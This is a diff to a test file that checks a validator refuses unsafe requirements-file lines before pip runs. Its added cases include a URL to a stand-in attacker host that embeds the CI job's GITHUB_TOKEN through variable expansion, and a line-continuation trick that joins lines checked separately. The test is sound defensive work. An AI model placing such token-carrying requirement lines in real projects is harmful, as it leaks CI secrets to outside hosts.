@@ -41,6 +41,10 @@ def test_allowed(text):
         ("acme-checks --trusted-host evil.example", "'--trusted-host'"),
         ("-r other.txt", "'-r'"),
         ("acme-checks --hash=md5", "'--hash'"),
+        # pip expands ${VAR} in a requirements file: a URL could carry the job's token away
+        ("https://evil.example/${GITHUB_TOKEN}/acme.whl", "variable"),
+        # a continuation would join two lines that were checked one by one
+        ("acme-checks \\\n--hash=sha256:00", "continuation"),
     ],
 )
 def test_refused_before_pip_runs(text, what):
